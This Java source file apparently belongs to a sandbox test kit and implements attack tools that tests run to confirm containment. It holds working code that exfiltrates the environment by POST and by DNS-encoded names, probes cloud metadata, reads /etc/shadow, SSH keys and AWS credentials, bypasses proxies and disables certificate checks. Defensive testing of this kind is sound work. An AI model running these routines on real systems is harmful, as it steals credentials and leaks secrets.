package io.perstack.testkit.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.Collections;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.TreeMap;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * The attacks themselves. Each reports exactly what it obtained, so a test can check both that the attack failed
 * and that nothing secret came back. Network attacks go through the proxy named by {@code HTTPS_PROXY} the way
 * ordinary tools do, and also try to go around it.
 */
final class AttackTools {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration TIMEOUT = Duration.ofSeconds(5);

    /** In listing order; filled once here and then read-only. */
    static final Map<String, String> DESCRIPTIONS;

    static {
        LinkedHashMap<String, String> d = new LinkedHashMap<>();
        d.put("http_get", "GET a URL through the configured proxy");
        d.put("fetch_metadata", "Read cloud instance metadata (aws, gcp, azure)");
        d.put("access_internal", "Reach internal services (localhost, docker_host, kubernetes, "
                + "metadata_ip)");
        d.put("read_sensitive", "Read host secrets (proc_environ, etc_shadow, ssh_key, aws_creds, "
                + "docker_sock)");
        d.put("symlink_attack", "Create a link to a target in the working directory and read it");
        d.put("bypass_proxy", "Connect out without the proxy (direct, env_override)");
        d.put("list_env", "List the environment");
        d.put("exfiltrate_data", "POST data to a URL");
        d.put("dns_exfiltrate", "Encode data into DNS names of a domain");
        d.put("fetch_arbitrary", "Fetch any URL");
        d.put("harvest_and_exfiltrate_env", "Send the whole environment to a URL");
        d.put("echo", "Echo the input");
        DESCRIPTIONS = Collections.unmodifiableSequencedMap(d);
    }

    private AttackTools() {}

    static ObjectNode call(String tool, JsonNode in) {
        try {
            return switch (tool) {
                case "http_get", "fetch_arbitrary" -> get(in.path("url").asText(), true);
                case "fetch_metadata" -> fetchMetadata(in.path("provider").asText("aws"));
                case "access_internal" -> accessInternal(in.path("target").asText("localhost"));
                case "read_sensitive" -> readSensitive(in.path("target").asText(), in.path("home").asText(""));
                case "symlink_attack" -> symlinkAttack(in.path("target").asText("/etc/passwd"),
                        in.path("link").asText("innocent.txt"));
                case "bypass_proxy" -> bypassProxy(in.path("mode").asText("direct"), in.path("url").asText());
                case "list_env" -> listEnv();
                case "exfiltrate_data" -> post(in.path("url").asText(), in.path("data").asText());
                case "dns_exfiltrate" -> dnsExfiltrate(in.path("domain").asText("attacker.test"),
                        in.path("data").asText("secret"));
                case "harvest_and_exfiltrate_env" -> post(in.path("url").asText(),
                        JSON.writeValueAsString(new TreeMap<>(System.getenv())));
                case "echo" -> JSON.createObjectNode().put("text", in.path("text").asText());
                default -> JSON.createObjectNode().put("error", "unknown tool " + tool);
            };
        } catch (Exception e) {
            return JSON.createObjectNode().put("error", e.toString());
        }
    }

    // ------------------------------------------------------------------ network

    private static HttpClient client(boolean viaProxy) throws Exception {
        HttpClient.Builder b = HttpClient.newBuilder().connectTimeout(TIMEOUT).sslContext(trustEverything());
        String proxy = System.getenv("HTTPS_PROXY");
        if (viaProxy && proxy != null && !proxy.isBlank()) {
            URI p = URI.create(proxy);
            b.proxy(ProxySelector.of(new InetSocketAddress(p.getHost(), p.getPort())));
        } else {
            b.proxy(HttpClient.Builder.NO_PROXY);
        }
        return b.build();
    }

    /** An attacker does not validate certificates; it only wants the bytes through. */
    private static SSLContext trustEverything() throws Exception {
        TrustManager all = new X509TrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String authType) {
            }

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String authType) {
            }

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(null, new TrustManager[] {all}, new SecureRandom());
        return context;
    }

    static ObjectNode get(String url, boolean viaProxy) {
        ObjectNode out = JSON.createObjectNode().put("url", url).put("viaProxy", viaProxy);
        try {
            HttpResponse<String> r = client(viaProxy).send(HttpRequest.newBuilder(URI.create(url)).timeout(TIMEOUT)
                    .GET().build(), HttpResponse.BodyHandlers.ofString());
            out.put("status", r.statusCode()).put("body", r.body()).put("success", r.statusCode() < 300);
        } catch (Exception e) {
            out.put("success", false).put("error", e.toString());
        }
        return out;
    }

    static ObjectNode post(String url, String data) {
        ObjectNode out = JSON.createObjectNode().put("url", url);
        try {
            HttpResponse<String> r = client(true).send(HttpRequest.newBuilder(URI.create(url)).timeout(TIMEOUT)
                    .POST(HttpRequest.BodyPublishers.ofString(data)).build(), HttpResponse.BodyHandlers.ofString());
            out.put("status", r.statusCode()).put("success", r.statusCode() < 300);
        } catch (Exception e) {
            out.put("success", false).put("error", e.toString());
        }
        return out;
    }

    private static ObjectNode fetchMetadata(String provider) {
        String url = switch (provider) {
            case "gcp" -> "http://metadata.google.internal/computeMetadata/v1/instance/";
            case "azure" -> "http://169.254.169.254/metadata/instance?api-version=2021-02-01";
            default -> "http://169.254.169.254/latest/meta-data/";
        };
        ObjectNode out = JSON.createObjectNode().put("provider", provider);
        out.set("viaProxy", get(url, true));
        out.set("direct", get(url, false));
        out.set("httpsViaProxy", get(url.replace("http://", "https://"), true));
        return out;
    }

    private static ObjectNode accessInternal(String target) {
        String[] hostPort = switch (target) {
            case "docker_host" -> new String[] {"host.docker.internal", "2375"};
            case "kubernetes" -> new String[] {"kubernetes.default.svc", "443"};
            case "metadata_ip" -> new String[] {"169.254.169.254", "80"};
            default -> new String[] {"127.0.0.1", "80"};
        };
        ObjectNode out = JSON.createObjectNode().put("target", target);
        out.set("tcp", tcp(hostPort[0], Integer.parseInt(hostPort[1])));
        out.set("httpsViaProxy", get("https://" + hostPort[0] + ":" + hostPort[1] + "/", true));
        out.set("httpViaProxy", get("http://" + hostPort[0] + ":" + hostPort[1] + "/", true));
        return out;
    }

    private static ObjectNode tcp(String host, int port) {
        ObjectNode out = JSON.createObjectNode();
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress(host, port), (int) TIMEOUT.toMillis());
            out.put("connected", true);
        } catch (Exception e) {
            out.put("connected", false).put("error", e.toString());
        }
        return out;
    }

    private static ObjectNode bypassProxy(String mode, String url) {
        ObjectNode out = JSON.createObjectNode().put("mode", mode);
        if (mode.equals("env_override")) {
            // As if the proxy variables were cleared: a plain client with no proxy at all.
            out.set("https", get(url.isEmpty() ? "https://api.example.test/" : url, false));
        } else {
            out.set("tcp443", tcp("1.1.1.1", 443));
            out.set("tcp80", tcp("93.184.216.34", 80));
            out.set("dnsServer", udpDns("8.8.8.8", "example.com"));
        }
        return out;
    }

    // ------------------------------------------------------------------ DNS

    private static ObjectNode dnsExfiltrate(String domain, String data) {
        String label = HexFormat.of().formatHex(data.getBytes(StandardCharsets.UTF_8));
        if (label.length() > 60) {
            label = label.substring(0, 60);
        }
        String name = label + "." + domain;
        ObjectNode out = JSON.createObjectNode().put("name", name);
        try {
            out.put("resolved", InetAddress.getByName(name).getHostAddress());
        } catch (Exception e) {
            out.put("resolved", (String) null).put("resolveError", e.toString());
        }
        out.set("udpPublic", udpDns("8.8.8.8", name));
        out.set("udpLocal", udpDns("127.0.0.53", name));
        out.set("httpsViaProxy", get("https://" + name + "/", true));
        return out;
    }

    /** Sends one DNS question over UDP and reports whether any answer came back. */
    private static ObjectNode udpDns(String server, String name) {
        ObjectNode out = JSON.createObjectNode().put("server", server);
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.setSoTimeout(2000);
            byte[] query = dnsQuery(name);
            socket.send(new DatagramPacket(query, query.length, InetAddress.getByName(server), 53));
            byte[] answer = new byte[512];
            socket.receive(new DatagramPacket(answer, answer.length));
            out.put("answered", true);
        } catch (Exception e) {
            out.put("answered", false).put("error", e.toString());
        }
        return out;
    }

    private static byte[] dnsQuery(String name) {
        java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
        b.writeBytes(new byte[] {0x13, 0x37, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00});
        for (String label : name.split("\\.")) {
            b.write(label.length());
            b.writeBytes(label.getBytes(StandardCharsets.US_ASCII));
        }
        b.writeBytes(new byte[] {0x00, 0x00, 0x01, 0x00, 0x01});
        return b.toByteArray();
    }

    // ------------------------------------------------------------------ files and environment

    private static ObjectNode readSensitive(String target, String hostHome) {
        String home = System.getProperty("user.home");
        String[] paths = switch (target) {
            case "proc_environ" -> new String[] {"/proc/self/environ", "/proc/1/environ"};
            case "etc_shadow" -> new String[] {"/etc/shadow", "/etc/gshadow", "/etc/sudoers"};
            case "ssh_key" -> new String[] {home + "/.ssh/id_rsa", hostHome + "/.ssh/id_rsa", "/root/.ssh/id_rsa",
                    "/etc/ssh/ssh_host_rsa_key"};
            case "aws_creds" -> new String[] {home + "/.aws/credentials", hostHome + "/.aws/credentials",
                    "/root/.aws/credentials"};
            case "docker_sock" -> new String[] {"/var/run/docker.sock", "/run/docker.sock"};
            default -> new String[] {target};
        };
        ObjectNode out = JSON.createObjectNode().put("target", target);
        ObjectNode files = out.putObject("files");
        for (String p : paths) {
            files.set(p, read(Path.of(p)));
        }
        if (target.equals("etc_shadow")) {
            out.set("sudo", run("sudo", "-n", "cat", "/etc/shadow"));
        }
        return out;
    }

    private static ObjectNode read(Path p) {
        ObjectNode out = JSON.createObjectNode();
        try {
            out.put("exists", Files.exists(p)).put("content", Files.readString(p, StandardCharsets.ISO_8859_1)
                    .replace('\0', '\n'));
        } catch (Exception e) {
            out.put("error", e.toString());
        }
        return out;
    }

    private static ObjectNode run(String... command) {
        ObjectNode out = JSON.createObjectNode();
        try {
            Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
            out.put("output", new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
            out.put("exitCode", p.waitFor());
        } catch (Exception e) {
            out.put("error", e.toString()).put("exitCode", -1);
        }
        return out;
    }

    private static ObjectNode symlinkAttack(String target, String link) throws IOException {
        Path l = Path.of(link);
        Files.deleteIfExists(l);
        Files.createSymbolicLink(l, Path.of(target));
        ObjectNode out = JSON.createObjectNode().put("link", l.toAbsolutePath().toString()).put("target", target);
        out.set("read", read(l));
        return out;
    }

    private static ObjectNode listEnv() {
        ObjectNode out = JSON.createObjectNode();
        ObjectNode env = out.putObject("environment");
        new TreeMap<>(System.getenv()).forEach(env::put);
        return out;
    }
}
